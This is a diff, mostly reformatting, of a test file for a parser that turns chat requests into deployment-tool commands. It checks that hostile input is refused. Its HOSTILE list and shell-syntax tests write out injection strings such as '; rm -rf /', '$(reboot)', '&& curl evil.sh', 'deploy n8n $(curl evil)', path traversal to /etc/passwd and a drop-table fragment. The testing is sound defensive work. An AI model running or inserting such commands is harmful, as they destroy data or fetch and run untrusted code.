@@ -5,7 +5,12 @@
  * command, and the parser is deterministic.
  */
 import {describe, expect, it} from 'vitest'
-import {completeClarification, parseUtterance, type IntentContext, type IntentResult} from '../../../../src/core/intents/index.js'
+import {
+  completeClarification,
+  parseUtterance,
+  type IntentContext,
+  type IntentResult,
+} from '../../../../src/core/intents/index.js'
 import {context} from './fixture.js'
 import {heldOut} from './heldout.js'
 import {expectGrammatical} from './support.js'
@@ -13,26 +18,95 @@ import {utterances} from './utterances.js'
 
 /** Written out here, not imported: what each command does to the world. */
 const EFFECTS: Record<string, {mutates: boolean; destructive: boolean}> = {
-  'host ls': {mutates: false, destructive: false}, 'host use': {mutates: true, destructive: false}, 'host rm': {mutates: true, destructive: true},
-  doctor: {mutates: false, destructive: false}, 'catalog ls': {mutates: false, destructive: false}, 'catalog search': {mutates: false, destructive: false},
-  'catalog show': {mutates: false, destructive: false}, 'plug up': {mutates: true, destructive: false}, 'plug ls': {mutates: false, destructive: false},
-  'plug status': {mutates: false, destructive: false}, 'plug logs': {mutates: false, destructive: false}, 'plug start': {mutates: true, destructive: false},
-  'plug stop': {mutates: true, destructive: false}, 'plug restart': {mutates: true, destructive: false}, 'plug scale': {mutates: true, destructive: false},
-  'plug down': {mutates: true, destructive: true}, export: {mutates: true, destructive: false}, dock: {mutates: false, destructive: false},
-  events: {mutates: false, destructive: false}, stats: {mutates: false, destructive: false}, health: {mutates: false, destructive: false},
-  audit: {mutates: false, destructive: false}, 'config get': {mutates: false, destructive: false}, 'config set': {mutates: true, destructive: false},
+  'host ls': {mutates: false, destructive: false},
+  'host use': {mutates: true, destructive: false},
+  'host rm': {mutates: true, destructive: true},
+  doctor: {mutates: false, destructive: false},
+  'catalog ls': {mutates: false, destructive: false},
+  'catalog search': {mutates: false, destructive: false},
+  'catalog show': {mutates: false, destructive: false},
+  'plug up': {mutates: true, destructive: false},
+  'plug ls': {mutates: false, destructive: false},
+  'plug status': {mutates: false, destructive: false},
+  'plug logs': {mutates: false, destructive: false},
+  'plug start': {mutates: true, destructive: false},
+  'plug stop': {mutates: true, destructive: false},
+  'plug restart': {mutates: true, destructive: false},
+  'plug scale': {mutates: true, destructive: false},
+  'plug down': {mutates: true, destructive: true},
+  export: {mutates: true, destructive: false},
+  dock: {mutates: false, destructive: false},
+  events: {mutates: false, destructive: false},
+  stats: {mutates: false, destructive: false},
+  health: {mutates: false, destructive: false},
+  audit: {mutates: false, destructive: false},
+  'config get': {mutates: false, destructive: false},
+  'config set': {mutates: true, destructive: false},
 }
 
 const HOSTILE = [
-  '; rm -rf /', '$(reboot)', '`id`', 'x\nrm -rf /', '| sh', '&& curl evil.sh', '> /etc/passwd', '${IFS}', "'; drop table", '\u0000', '\u001b[31mred',
-  'a'.repeat(200), `${'b'.repeat(40)}/${'c'.repeat(40)}`, 'ÄÖÜ', '../../etc/passwd', '--rm', '-rf', '--tenant=evil', "'quoted'", '"double"', '*', '~root',
-  'n8n\r\nstop acme/n8n', 'acme/n8n/../x', '-', 'acme/', '/n8n', 'ACME', 'café', '١٢٣', '\u202eevil', 'x'.repeat(600),
+  '; rm -rf /',
+  '$(reboot)',
+  '`id`',
+  'x\nrm -rf /',
+  '| sh',
+  '&& curl evil.sh',
+  '> /etc/passwd',
+  '${IFS}',
+  "'; drop table",
+  '\u0000',
+  '\u001b[31mred',
+  'a'.repeat(200),
+  `${'b'.repeat(40)}/${'c'.repeat(40)}`,
+  'ÄÖÜ',
+  '../../etc/passwd',
+  '--rm',
+  '-rf',
+  '--tenant=evil',
+  "'quoted'",
+  '"double"',
+  '*',
+  '~root',
+  'n8n\r\nstop acme/n8n',
+  'acme/n8n/../x',
+  '-',
+  'acme/',
+  '/n8n',
+  'ACME',
+  'café',
+  '١٢٣',
+  '\u202eevil',
+  'x'.repeat(600),
 ]
 const TEMPLATES = [
-  'deploy n8n for {x}', 'deploy {x}', 'restart {x}', 'logs for {x}', 'scale {x} to 3', 'export {x} to {x}', 'export n8n into {x}', 'deploy n8n called {x}',
-  'deploy n8n on {x}', 'set the default tenant to {x}', 'search for {x}', 'deploy n8n with FOO={x}', 'switch to host {x}', 'logs of the {x} service of acme/n8n',
-  'deploy n8n and link it to {x}', '{x}', 'tell me about {x}', 'deploy n8n with {x} cpus', 'deploy n8n with {x} memory', 'take {x} down', 'decommission {x}',
-  'status of {x}', 'stats for {x}', 'config set ai.model {x}', 'restart {x} on host {x}', 'open the dock for {x}', 'what is running for {x}', 'stop {x}/n8n',
+  'deploy n8n for {x}',
+  'deploy {x}',
+  'restart {x}',
+  'logs for {x}',
+  'scale {x} to 3',
+  'export {x} to {x}',
+  'export n8n into {x}',
+  'deploy n8n called {x}',
+  'deploy n8n on {x}',
+  'set the default tenant to {x}',
+  'search for {x}',
+  'deploy n8n with FOO={x}',
+  'switch to host {x}',
+  'logs of the {x} service of acme/n8n',
+  'deploy n8n and link it to {x}',
+  '{x}',
+  'tell me about {x}',
+  'deploy n8n with {x} cpus',
+  'deploy n8n with {x} memory',
+  'take {x} down',
+  'decommission {x}',
+  'status of {x}',
+  'stats for {x}',
+  'config set ai.model {x}',
+  'restart {x} on host {x}',
+  'open the dock for {x}',
+  'what is running for {x}',
+  'stop {x}/n8n',
 ]
 
 const FORBIDDEN = /[;|`$<>\\\n\r\u0000-\u001f\u007f\u202e'"*]/
@@ -45,14 +119,19 @@ function expectSafe(result: IntentResult, text: string) {
     // A bundle directory from chat stays below the current or home directory.
     if (result.argv[index - 1] === '--out') expect(word.split('/')).not.toContain('..')
     // Only the parser's own flags start with "-": a value never can (option injection).
-    if (word.startsWith('-')) expect(word, `argv[${index}] of ${JSON.stringify(text)}`).toMatch(/^--(?:name|tenant|env|domain|cpus|memory|expose|link|host|follow|tail|service|replicas|keep-data|out|category)$/)
+    if (word.startsWith('-'))
+      expect(word, `argv[${index}] of ${JSON.stringify(text)}`).toMatch(
+        /^--(?:name|tenant|env|domain|cpus|memory|expose|link|host|follow|tail|service|replicas|keep-data|out|category)$/,
+      )
   }
   expectGrammatical(result.argv)
 }
 
 function expectEffects(result: IntentResult) {
   if (result.kind === 'command') {
-    const path = EFFECTS[`${result.argv[0]} ${result.argv[1]}`] ? `${result.argv[0]} ${result.argv[1]}` : result.argv[0]!
+    const path = EFFECTS[`${result.argv[0]} ${result.argv[1]}`]
+      ? `${result.argv[0]} ${result.argv[1]}`
+      : result.argv[0]!
     expect({mutates: result.mutates, destructive: result.destructive}, path).toEqual(EFFECTS[path])
     expect(result.confidence).toBeGreaterThan(0)
     expect(result.confidence).toBeLessThanOrEqual(1)
@@ -92,7 +171,15 @@ describe('offline parser: hostile text', () => {
   })
 
   it('refuses shell syntax outright instead of acting on the rest of the text', () => {
-    for (const text of ['restart acme/n8n; rm -rf /', 'deploy n8n $(curl evil)', 'logs for `id`', 'stop gitea && reboot', 'scale gitea to 3 > /dev/null', 'restart gitea\nrestart web', 'deploy n8n | sh']) {
+    for (const text of [
+      'restart acme/n8n; rm -rf /',
+      'deploy n8n $(curl evil)',
+      'logs for `id`',
+      'stop gitea && reboot',
+      'scale gitea to 3 > /dev/null',
+      'restart gitea\nrestart web',
+      'deploy n8n | sh',
+    ]) {
       const result = parseUtterance(text, context)
       expect(result.kind, text).toBe('unknown')
       if (result.kind === 'unknown') expect(result.message).toMatch(/shell syntax|several lines/)
@@ -103,15 +190,59 @@ describe('offline parser: hostile text', () => {
     const long = parseUtterance(`deploy n8n called ${'a'.repeat(200)}`, context)
     expect(long).toMatchObject({kind: 'unknown', message: expect.stringMatching(/200 characters long \(at most 32\)/)})
     const underscore = parseUtterance('deploy n8n for tenant acme_corp', context)
-    expect(underscore).toMatchObject({kind: 'unknown', message: expect.stringMatching(/invalid tenant name "acme_corp"/)})
+    expect(underscore).toMatchObject({
+      kind: 'unknown',
+      message: expect.stringMatching(/invalid tenant name "acme_corp"/),
+    })
     const domain = parseUtterance('deploy ghost with domain blog', context)
     expect(domain).toMatchObject({kind: 'unknown', message: expect.stringMatching(/not a domain name/)})
   })
 
   it('keeps random text (words, names and metacharacters mixed) out of argvs', () => {
     const next = random(7)
-    const words = ['deploy', 'restart', 'logs', 'for', 'acme', 'n8n', 'acme/n8n', 'scale', 'to', '3', 'replicas', 'the', 'of', 'gitea', 'export', 'into', './out',
-      'called', 'on', 'host', 'down', 'keep', 'data', ';', '$(', '`', '|', '&', '\n', "'", '"', '--rm', '-f', 'x'.repeat(40), 'ÄÖ', '..', '/', '=', 'KEY=v', '2g', 'cpus']
+    const words = [
+      'deploy',
+      'restart',
+      'logs',
+      'for',
+      'acme',
+      'n8n',
+      'acme/n8n',
+      'scale',
+      'to',
+      '3',
+      'replicas',
+      'the',
+      'of',
+      'gitea',
+      'export',
+      'into',
+      './out',
+      'called',
+      'on',
+      'host',
+      'down',
+      'keep',
+      'data',
+      ';',
+      '$(',
+      '`',
+      '|',
+      '&',
+      '\n',
+      "'",
+      '"',
+      '--rm',
+      '-f',
+      'x'.repeat(40),
+      'ÄÖ',
+      '..',
+      '/',
+      '=',
+      'KEY=v',
+      '2g',
+      'cpus',
+    ]
     for (let round = 0; round < 1500; round++) {
       const length = 1 + Math.floor(next() * 8)
       const text = Array.from({length}, () => words[Math.floor(next() * words.length)]).join(next() < 0.8 ? ' ' : '')
@@ -165,19 +296,41 @@ describe('offline parser: effects and determinism', () => {
 describe('offline parser: conversation focus and hosts out of reach', () => {
   it('reads "it" as the instance the conversation is about', () => {
     const focused: IntentContext = {...context, focus: 'acme/n8n'}
-    expect(parseUtterance('restart it', focused)).toMatchObject({kind: 'command', argv: ['plug', 'restart', 'acme/n8n']})
-    expect(parseUtterance('show me its logs', focused)).toMatchObject({kind: 'command', argv: ['plug', 'logs', 'acme/n8n']})
-    expect(parseUtterance('take it down', focused)).toMatchObject({kind: 'command', argv: ['plug', 'down', 'acme/n8n'], destructive: true})
-    expect(parseUtterance('how is it doing?', focused)).toMatchObject({kind: 'command', argv: ['plug', 'status', 'acme/n8n']})
+    expect(parseUtterance('restart it', focused)).toMatchObject({
+      kind: 'command',
+      argv: ['plug', 'restart', 'acme/n8n'],
+    })
+    expect(parseUtterance('show me its logs', focused)).toMatchObject({
+      kind: 'command',
+      argv: ['plug', 'logs', 'acme/n8n'],
+    })
+    expect(parseUtterance('take it down', focused)).toMatchObject({
+      kind: 'command',
+      argv: ['plug', 'down', 'acme/n8n'],
+      destructive: true,
+    })
+    expect(parseUtterance('how is it doing?', focused)).toMatchObject({
+      kind: 'command',
+      argv: ['plug', 'status', 'acme/n8n'],
+    })
   })
 
   it('takes names as written when no host could be asked what runs (dry run)', () => {
     const offline: IntentContext = {...context, instances: []}
     expect(parseUtterance('restart n8n', offline)).toMatchObject({kind: 'command', argv: ['plug', 'restart', 'n8n']})
-    expect(parseUtterance('scale blog to 2 replicas', offline)).toMatchObject({kind: 'command', argv: ['plug', 'scale', 'blog', '--replicas', '2']})
-    expect(parseUtterance("restart acme's blog", offline)).toMatchObject({kind: 'command', argv: ['plug', 'restart', 'acme/blog']})
+    expect(parseUtterance('scale blog to 2 replicas', offline)).toMatchObject({
+      kind: 'command',
+      argv: ['plug', 'scale', 'blog', '--replicas', '2'],
+    })
+    expect(parseUtterance("restart acme's blog", offline)).toMatchObject({
+      kind: 'command',
+      argv: ['plug', 'restart', 'acme/blog'],
+    })
     expect(parseUtterance('start ghost', offline)).toMatchObject({kind: 'command', argv: ['plug', 'start', 'ghost']})
-    expect(parseUtterance('decommission the gitea instance', offline)).toMatchObject({kind: 'command', argv: ['plug', 'down', 'gitea']})
+    expect(parseUtterance('decommission the gitea instance', offline)).toMatchObject({
+      kind: 'command',
+      argv: ['plug', 'down', 'gitea'],
+    })
   })
 })
 
@@ -187,14 +340,22 @@ describe('completeClarification', () => {
     expect(question).toMatchObject({kind: 'clarify', options: ['acme/n8n', 'globex/n8n']})
     if (question.kind !== 'clarify') return
     expect(completeClarification(question, 'globex/n8n', context)).toEqual({
-      kind: 'command', argv: ['plug', 'restart', 'globex/n8n'], summary: 'Restart globex/n8n', mutates: true, destructive: false, confidence: 1,
+      kind: 'command',
+      argv: ['plug', 'restart', 'globex/n8n'],
+      summary: 'Restart globex/n8n',
+      mutates: true,
+      destructive: false,
+      confidence: 1,
     })
   })
 
   it('keeps the rest of the command (flags) and its effects', () => {
     const question = parseUtterance('take n8n down but keep the data', context)
     if (question.kind !== 'clarify') throw new Error(`expected a question, got ${question.kind}`)
-    expect(completeClarification(question, 'acme/n8n', context)).toMatchObject({argv: ['plug', 'down', 'acme/n8n', '--keep-data'], destructive: true})
+    expect(completeClarification(question, 'acme/n8n', context)).toMatchObject({
+      argv: ['plug', 'down', 'acme/n8n', '--keep-data'],
+      destructive: true,
+    })
   })
 
   it('refuses an answer that is not one of the options', () => {
@@ -209,7 +370,10 @@ describe('completeClarification', () => {
     const question = parseUtterance('restart', offline)
     if (question.kind !== 'clarify') throw new Error('expected a question')
     expect(question.options).toEqual([])
-    expect(completeClarification(question, 'acme/blog', offline)).toMatchObject({kind: 'command', argv: ['plug', 'restart', 'acme/blog']})
+    expect(completeClarification(question, 'acme/blog', offline)).toMatchObject({
+      kind: 'command',
+      argv: ['plug', 'restart', 'acme/blog'],
+    })
     expect(completeClarification(question, 'Acme Blog', offline)).toMatchObject({kind: 'unknown'})
   })
 
@@ -217,6 +381,9 @@ describe('completeClarification', () => {
     const question = parseUtterance('scale gitea', context)
     if (question.kind !== 'clarify') throw new Error('expected a question')
     expect(question.partial).toBeUndefined()
-    expect(completeClarification(question, question.options[0]!, context)).toMatchObject({kind: 'command', argv: ['plug', 'scale', 'gitea', '--replicas', '2']})
+    expect(completeClarification(question, question.options[0]!, context)).toMatchObject({
+      kind: 'command',
+      argv: ['plug', 'scale', 'gitea', '--replicas', '2'],
+    })
   })
 })
